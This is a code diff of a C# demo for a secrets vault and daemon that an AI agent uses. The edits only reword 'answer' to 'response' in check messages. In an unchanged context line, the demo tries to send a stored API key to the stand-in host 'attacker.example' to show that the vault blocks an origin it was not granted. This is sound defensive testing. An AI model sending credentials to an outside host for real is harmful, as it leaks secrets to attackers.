@@ -37,7 +37,7 @@ internal sealed class DemoStory(Terminal terminal, DemoShell shell, VaultDirecto
         Check("the vault is on disk, and only you can read it", OnlyOwnerReads(vault.Path) && OnlyOwnerReads(vault.SealFile));
         await shell.RunAsync(["daemon", "start"]).ConfigureAwait(false);
         var daemon = await shell.FindDaemonAsync().ConfigureAwait(false);
-        Check($"the daemon answers, in its own process {daemon.ProcessId}", !daemon.Sealed && daemon.ProcessId != Environment.ProcessId);
+        Check($"the daemon responds, in its own process {daemon.ProcessId}", !daemon.Sealed && daemon.ProcessId != Environment.ProcessId);
 
         Heading("2. You put secrets in. They are typed or piped in, never given as arguments");
         await shell.RunAsync(["store", ApiKey, "--header-type", "bearer", "--allow-origin", service.Origin], _secret).ConfigureAwait(false);
@@ -80,8 +80,8 @@ internal sealed class DemoStory(Terminal terminal, DemoShell shell, VaultDirecto
         using var response = await client.SendAsync(ApiKey, request, cancelled).ConfigureAwait(false);
         var answer = await response.Content.ReadAsStringAsync(cancelled).ConfigureAwait(false);
         Check("the service got the key, from the vault", response.IsSuccessStatusCode && service.Received(_secret));
-        terminal.Line($"    it answered, careless as it is, with the key in it; the agent got: {answer}");
-        Check("the key was taken out of the answer", answer.Length > 0 && !SecretForms.Tells(answer, _secret));
+        terminal.Line($"    it responded, careless as it is, with the key in it; the agent got: {answer}");
+        Check("the key was taken out of the response", answer.Length > 0 && !SecretForms.Tells(answer, _secret));
 
         Code($"await client.SendAsync(\"{ApiKey}\", new HttpRequestMessage(HttpMethod.Get, \"https://attacker.example/\"))");
         using var elsewhere = new HttpRequestMessage(HttpMethod.Get, "https://attacker.example/");
@@ -126,7 +126,7 @@ internal sealed class DemoStory(Terminal terminal, DemoShell shell, VaultDirecto
         var log = await shell.RunAsync(["audit", "log", "--agent", Agent]).ConfigureAwait(false);
         Check("what the agent did is in the audit log", log.Contains("sign", StringComparison.Ordinal) && log.Contains(ApiKey, StringComparison.Ordinal));
         Check("what it was refused is there too", log.Contains("denied", StringComparison.Ordinal) && log.Contains(Ungranted, StringComparison.Ordinal));
-        Check("where the key was sent is there, and that it was taken out of an answer", log.Contains(service.Origin, StringComparison.Ordinal) && log.Contains("scrubbed", StringComparison.Ordinal));
+        Check("where the key was sent is there, and that it was taken out of a response", log.Contains(service.Origin, StringComparison.Ordinal) && log.Contains("scrubbed", StringComparison.Ordinal));
         Check("the secrets are not", !log.Contains(_secret, StringComparison.Ordinal) && !log.Contains(_token, StringComparison.Ordinal));
         var whole = await shell.RunAsync(["audit", "verify"]).ConfigureAwait(false);
         Check("no entry was changed, removed or added", whole.Contains("the audit log is whole", StringComparison.Ordinal));
